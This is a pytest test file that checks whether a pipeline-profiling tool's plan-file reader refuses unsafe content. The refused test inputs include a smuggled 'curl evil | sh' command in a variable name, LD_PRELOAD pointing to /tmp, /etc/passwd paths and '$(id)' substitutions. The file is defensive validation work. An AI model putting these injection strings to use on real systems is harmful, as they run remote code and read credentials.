"""What a plan may hold: the table, and everything else, which is refused by name."""

from __future__ import annotations

import ast
import inspect
import json
import os
import sys
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from unit.plan_documents import JSON, LIBRARY, NEW, edits, mutated, plan

from pipeprof import profiles
from pipeprof.pipelines.edits.edits import InsertStage, PipelineEdit, SetEnvironment, from_document
from pipeprof.pipelines.edits.environment import VALUES, assignment, is_allocator
from pipeprof.pipelines.edits.plan import PlanError, SavedPlan, read_plan, shell_line, write_plan
from pipeprof.pipelines.edits.plan_table import (
    ARGUMENTS,
    BUFFERS,
    CALLS,
    EDITS,
    INSERTED,
    OPTIONS,
    REPLACING,
    check_plan,
)
from pipeprof.pipelines.edits.plan_values import RefusedError
from pipeprof.profiles.host.host import installed_allocator
from pipeprof.rewriting import apply

STAGE = {"kind": "InsertStage", "op": "map", "after": None}
CODE, FILES = "a plan cannot name Python code", "a plan cannot name files"


def refusal(*given: dict[str, Any], **more: Any) -> str:
    with pytest.raises(PlanError) as raised:
        read_plan(json.dumps(plan(*given, **more)), "fast.plan.json")
    text = str(raised.value)
    assert text.isprintable()
    return text


def by(op: str, **arguments: Any) -> dict[str, Any]:
    return {"kind": "ReplaceStages", "stages": ["source"], "by": [{"op": op, "arguments": arguments}]}


def test_what_is_in_the_table_is_read_and_written() -> None:
    document = plan()
    document["edits"] = [edit for edit in document["edits"] if edit["kind"] in EDITS.rows]
    found = read_plan(json.dumps(document), "a.plan.json")
    assert list(found.steps) == [tuple(map(from_document, edits()))]
    assert read_plan(write_plan(found), "a.plan.json") == found
    assert {type(edit).__name__ for edit in found.steps[0]} == PipelineEdit.kinds.keys() - {"HandWritten"}


@pytest.mark.parametrize(
    ("edit", "said"),
    [
        (
            {**STAGE, "arguments": {"python": "/usr/lib/python3.11/subprocess.py:getoutput('id')"}},
            f"edits[0].arguments.python: {CODE}",
        ),
        ({**STAGE, "op": "filter", "arguments": {"python": "evil.py:f"}}, f"edits[0].arguments.python: {CODE}"),
        ({**STAGE, "op": "apply", "arguments": {}}, f"edits[0].op: {CODE}"),
        (by("from_generator", generator="a.py:f"), f"edits[0].by[0].op: {CODE}"),
        (by("python", function="a.py:f"), f"edits[0].by[0].op: {CODE}"),
        (by("map", ops=[{"python": {"function": "a.py:f"}}]), f"edits[0].by[0].arguments.ops[0].python: {CODE}"),
        (by("map", ops=["python"]), f"edits[0].by[0].arguments.ops[0]: {CODE}"),
        (
            {"kind": "SetArgument", "stage": "stages.0", "op": "map", "argument": "python", "value": "a.py:f"},
            f"edits[0].argument: {CODE}",
        ),
        ({**STAGE, "op": "cache", "arguments": {"filename": "/etc/x"}}, f"edits[0].arguments.filename: {FILES}"),
        (
            {"kind": "SetArgument", "stage": "stages.0", "op": "cache", "argument": "filename", "value": "x"},
            f"edits[0].argument: {FILES}",
        ),
        ({**STAGE, "op": "snapshot", "arguments": {"path": "x"}}, f"edits[0].op: {FILES}"),
        (by("TFRecordDataset", filenames="/etc/passwd"), f"edits[0].by[0].arguments.filenames: {FILES}"),
        (by("list_files", file_pattern="/etc/*"), f"edits[0].by[0].arguments.file_pattern: {FILES}"),
        (
            by("map", ops=[{"tf.io.write_file": {"filename_": "x"}}]),
            'ops[0]: a plan cannot call "tf.io.write_file"; expected getitem or tf.signal.frame',
        ),
        (by("map", ops=["tf.square"]), 'ops[0]: a plan cannot call "tf.square"'),
        (by("map", ops=[{"getitem": {"key": "0, open('x')", "on": 0}}]), "key: expected a stride such as `:, ::2`"),
        (by("map", ops=[{}]), "ops[0]: expected one call with its arguments"),
        (
            {**STAGE, "arguments": {"ops": []}},
            'op: a plan cannot hold "map"; expected cache, prefetch, repeat or shuff',
        ),
        ({"kind": "HandWritten", "stages": [], "yaml": "", "python_": ""}, 'kind: a plan cannot hold "HandWritten"'),
        ({"kind": "SetOption", "path": "__class__", "value": True}, 'path: a plan cannot hold "__class__"'),
        (
            {"kind": "SetArgument", "stage": "stages.0", "op": "batch", "argument": "batch_size", "value": 10**40},
            'argument: a plan cannot hold "batch_size"',
        ),
        ({"kind": "SetEnvironment", "variable": "PYTHONPATH", "value": "/tmp"}, 'cannot hold "PYTHONPATH"'),
        ({"kind": "SetEnvironment", "variable": "PATH", "value": "/tmp"}, 'variable: a plan cannot hold "PATH"'),
        (
            {"kind": "SetEnvironment", "variable": "X=1; curl evil | sh #", "value": "v"},
            'variable: a plan cannot hold "X=1; curl evil | sh #"',
        ),
        (
            {"kind": "SetEnvironment", "variable": "LD_PRELOAD", "value": "/tmp/x.so"},
            "value: a plan cannot load this library; expected jemalloc or tcmalloc in a folder of the system",
        ),
        ({"kind": "SetEnvironment", "variable": "OMP_NUM_THREADS", "value": 1}, 'value: expected "1", got 1'),
        ({"kind": "VectoriseFilter", "stage": "s", "batch": "b", "fields": ["a"]}, "fields: expected null"),
        ({"kind": "VectoriseMap", "stage": "stages.0\n", "batch": "b"}, "stage: it has control characters"),
        ({"kind": "VectoriseMap", "stage": "$(id)", "batch": "b"}, "stage: expected an address"),
    ],
)
def test_everything_else_is_refused_by_name(edit: dict[str, Any], said: str) -> None:
    assert said in refusal(edit)
    assert said.replace("edits[0]", "then[0][0]") in refusal({**edits()[0]}, then=[[edit]])


def test_code_is_named_before_files_and_both_before_all_else() -> None:
    code, files = {**STAGE, "arguments": {"python": "a.py:f"}}, {**STAGE, "op": "snapshot"}
    assert CODE in refusal({"kind": "Unheard"}, files, code, stages=3)
    assert FILES in refusal({"kind": "Unheard"}, files, stages=3)


CALL = {"kind": "SetArgument", "stage": "stages.0", "op": "map"}
NUMBERS: list[tuple[dict[str, Any], int]] = [
    *(({**CALL, "argument": argument}, 4096) for argument in ARGUMENTS),
    ({**CALL, "argument": "buffer_size", "op": "prefetch"}, 1024),
    ({**CALL, "argument": "buffer_size", "op": "shuffle"}, 100_000_000),
    ({"kind": "SetOption", "path": "threading.private_threadpool_size"}, 2048),
]


@pytest.mark.parametrize(("edit", "most"), NUMBERS)
def test_every_number_of_an_edit_has_bounds(edit: dict[str, Any], most: int) -> None:
    for value in (1, most):
        check_plan(plan({**edit, "value": value}))
    for wrong in (0, -1, most + 1, 2**31, 2**63 - 1, 10**40, True, 1.0, "4", [4]):
        assert "value: expected 1 to " in refusal({**edit, "value": wrong})


@pytest.mark.parametrize(
    ("op", "names", "most"),
    [
        ("batch", ("batch_size",), 10_000_000),
        ("window", ("size",), 10**9),
        ("window", ("shift",), 10**9),
        ("bucket_by_sequence_length", ("bucket_boundaries", 0), 10**9),
        ("bucket_by_sequence_length", ("bucket_batch_sizes", 0), 10_000_000),
        ("flat_map", ("source", "zip", "datasets", 0, "stages", 0, "batch", "batch_size"), 10**9),
        ("map", ("ops", 0, "tf.signal.frame", "frame_length"), 10**9),
        ("map", ("ops", 0, "tf.signal.frame", "frame_step"), 10**9),
    ],
)
def test_every_number_of_a_new_stage_has_bounds(op: str, names: tuple[Any, ...], most: int) -> None:
    def with_value(value: Any) -> dict[str, Any]:
        arguments = json.loads(json.dumps(NEW[op]))
        *groups, last = names
        at = arguments
        for group in groups:
            at = at[group]
        at[last] = value
        return by(op, **arguments)

    for value in (1, most):
        check_plan(plan(with_value(value)))
    for wrong in (0, most + 1, 2**63 - 1, 10**40, True, None, 1.5):
        assert f"{names[-1]}: expected" in refusal(with_value(wrong)).replace("[0]", ".0")


@pytest.mark.parametrize(
    ("change", "said"),
    [
        ({"then": [[edits()[0]]] * 32}, "then: expected 0 to 31 items, got 32"),
        ({"edits": [edits()[4]] * 4097}, "edits: expected 0 to 4,096 items, got 4,097"),
        ({"edits": [edits()[4]] * 4096, "then": [[edits()[4]]]}, "edits: expected at most 4,096 edits in all steps"),
        ({"edits": [edits()[0]] * 65}, "edits: expected at most 64 new stages in all steps, got 65"),
        (
            {"edits": [{**edits()[3], "arguments": {"buffer_size": 50_000_000}}] * 3},
            "edits: expected at most 100,000,000 elements of shuffles in all steps, got 150,000,000",
        ),
        ({"stages": dict.fromkeys(map(str, range(10_001)), "map")}, "stages: expected at most 10,000 entries"),
        ({"stages": {"source": 3}}, "stages.source: expected the op of a stage"),
        ({"stages": {"\x1b": "map"}}, "a key of stages: it has control characters"),
        ({"speedup": 1e7}, "speedup: expected a number from 0 to 1,000,000, or null"),
        ({"speedup": True}, "speedup: expected a number"),
        ({"target": 5}, "target: expected a text"),
        ({"target": "a" * 9000}, "target: expected a text of at most 8,192 characters"),
        ({"dtypes": "int64"}, "dtypes: expected a list"),
        ({"bodies": ["a"]}, "bodies: expected an object"),
        ({"environment": 4}, "environment: expected a text"),
        ({"tool": "pipeprof"}, "tool: expected an object"),
        ({"python": "a.py:f"}, "python: a plan cannot hold this field"),
    ],
)
def test_the_other_fields_and_their_lengths_have_bounds(change: dict[str, Any], said: str) -> None:
    assert said in refusal(**change)


DEEP = '{{"pipeprof_plan": 1, "edits": {}, "stages": {{}}}}'


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ('{"pipeprof_plan": 1, "edits": [], "edits": [], "stages": {}}', 'is damaged: duplicate key "edits"'),
        ('{"pipeprof_plan": 1, "speedup": NaN, "edits": [], "stages": {}}', "is damaged: JSON has no number NaN"),
        ('{"pipeprof_plan": 1, "speedup": 1e999, "edits": [], "stages": {}}', "speedup: expected a number"),
        ('{"pipeprof_plan": 1' + "0" * 5000 + "}", "is not a plan"),
        ('{"pipeprof_plan": 1' + "0" * 50 + "}", "a plan of version 1000"),
        ('{"pipeprof_plan": "\\u001b[31m\\n"}', r'a plan of version "\u001b[31m\n"'),
        (DEEP.format("[" * 500 + "]" * 500), "edits[0]: expected an object, got a list"),
        (DEEP.format('{"a":' * 500 + "1" + "}" * 500), "edits: expected a list, got an object"),
        (DEEP.format("[" * 100_000 + "]" * 100_000), ".plan.json"),
        (" " * 5_000_000, "is damaged: it has more than 4,194,304 characters"),
    ],
)
def test_json_that_is_no_plan_is_refused(text: str, said: str) -> None:
    with pytest.raises(PlanError) as raised:
        read_plan(text, "a\x1b\n.plan.json")
    assert said in str(raised.value)
    assert str(raised.value).isprintable()
    assert str(raised.value).startswith(r"a\x1b\n.plan.json")


@given(st.one_of(mutated(), JSON, st.dictionaries(st.just("pipeprof_plan"), JSON)))
def test_a_plan_is_within_the_table_or_refused(document: Any) -> None:
    text, refused = json.dumps(document), None
    try:
        found = read_plan(text, "a.plan.json")
    except PlanError as error:
        refused = str(error)
    if refused is not None:
        assert refused.isprintable()
        return
    check_plan(json.loads(text))
    assert read_plan(write_plan(found), "a.plan.json") == found
    assert sum(map(len, found.steps)) == sum(map(len, [document["edits"], *document.get("then", [])]))


@given(st.text(max_size=300))
def test_any_text_is_a_plan_or_refused(text: str) -> None:
    with pytest.raises(PlanError):
        read_plan(text, text)


def test_no_plan_is_written_that_could_not_be_read() -> None:
    wrong = SavedPlan("a.py:f", {}, ((InsertStage("map", {"python": "a.py:f"}),),))
    with pytest.raises(
        PlanError, match=r"no plan can hold these changes: edits\[0\]\.arguments\.python: a plan cannot"
    ):
        write_plan(wrong)


class Dataset:
    """What `apply` takes for a dataset."""

    element_spec = ()


def test_a_plan_that_is_too_large_or_no_file_is_refused(tmp_path: Path) -> None:
    large = tmp_path / "large\x1b.plan.json"
    with large.open("wb") as file:
        file.truncate(256 * 1024**2)
    with pytest.raises(PlanError, match=r"large\\x1b\.plan\.json is not a plan: it has more than 4,194,304 bytes"):
        apply(Dataset(), large)
    with pytest.raises(PlanError, match="is a folder, a device or a pipe"):
        apply(Dataset(), os.devnull)


@pytest.mark.parametrize(
    ("name", "value", "words"),
    [
        ("OMP_NUM_THREADS", "1", "OMP_NUM_THREADS=1"),
        ("A", "1; id", "A='1; id'"),
        ("X=1; curl evil | sh #", "v", "'X=1; curl evil | sh #=v'"),
        ("A\nid", "v", "'A\nid=v'"),
        ("A ", "v", "'A =v'"),
        ("", "v", "=v"),
    ],
)
def test_a_shell_line_quotes_names_and_values(name: str, value: str, words: str) -> None:
    assert assignment(name, value) == words
    assert shell_line(SavedPlan("a", {}, ((SetEnvironment(name, value),),))) == f"{words} python …"


@pytest.mark.parametrize(
    ("path", "known"),
    [
        (LIBRARY, True),
        ("/usr/lib64/libtcmalloc_minimal.so.4.5.16", True),
        ("/usr/local/lib/libtcmalloc.so", True),
        (str(Path(sys.prefix, "lib", "libjemalloc.so.2")), True),
        ("libjemalloc.so.2", False),
        ("/tmp/libjemalloc.so.2", False),
        ("/usr/lib/evil/libjemalloc.so.2", False),
        ("/usr/lib/a/../x86_64-linux-gnu/libjemalloc.so.2", False),
        ("/usr/lib/libjemalloc.so.2 /tmp/x.so", False),
        ("/usr/lib/libjemalloc.so.2:/tmp/x.so", False),
        ("/usr/lib/libjemalloc.so.2\n", False),
        ("/usr/lib/libjemalloc.so.$ORIGIN", False),
        ("/usr/lib/libevil.so", False),
    ],
)
def test_only_allocators_of_the_system_are_loaded_first(path: str, known: bool) -> None:
    assert is_allocator(path) == known


def test_the_allocator_that_is_proposed_is_one_that_a_plan_may_name() -> None:
    found = installed_allocator()
    assert found is None or is_allocator(found)


# What only specs, or nobody, has: a graph refuses it, or it stands for what the user writes.
_NOT_IN_PLANS = {
    "interleave",
    "map",
    "zip",
    "FixedLengthRecordDataset",
    "TextLineDataset",
    "skip",
    "filename",
    "drop_remainder",
    # For several hosts: the order in which a list of files is read, the same on all of them.
    "shuffle",
    "seed",
}


def _literals() -> set[tuple[str, str]]:
    """Names in the code that makes edits: of the class, and of its op, argument, option or variable."""
    fields = {"InsertStage": 0, "NewStage": 0, "SetArgument": 2, "SetOption": 0}
    found: set[tuple[str, str]] = set()
    root = Path(inspect.getfile(profiles)).parent
    for path in (path for room in ("advise", "verify", "fix") for path in (root / room).rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            name = node.func.id if isinstance(node, ast.Call) and isinstance(node.func, ast.Name) else ""
            if isinstance(node, ast.Call) and name in fields and len(node.args) > fields[name]:
                value = node.args[fields[name]]
                if isinstance(value, ast.Constant):
                    found.add((name, str(value.value)))
    return found


def test_all_that_code_writes_into_an_edit_is_in_the_table() -> None:
    known = {
        "InsertStage": set(INSERTED),
        "NewStage": {*REPLACING, *INSERTED},
        "SetArgument": {*ARGUMENTS, "buffer_size"},
        "SetOption": set(OPTIONS),
    }
    found = _literals()
    assert {name for kind, name in found if kind == "NewStage"} > {"batch", "unbatch"}
    assert {name for kind, name in found if name not in known[kind]} == _NOT_IN_PLANS
    assert {"prefetch", "shuffle"} <= set(BUFFERS)
    assert set(CALLS) == {"tf.signal.frame", "getitem"}
    assert set(VALUES) > {"LD_PRELOAD"}


def test_a_refusal_has_a_place_and_a_reason() -> None:
    with pytest.raises(RefusedError, match=r"^edits\[0\]\.kind: this field is missing$"):
        check_plan(plan({"op": "cache"}))
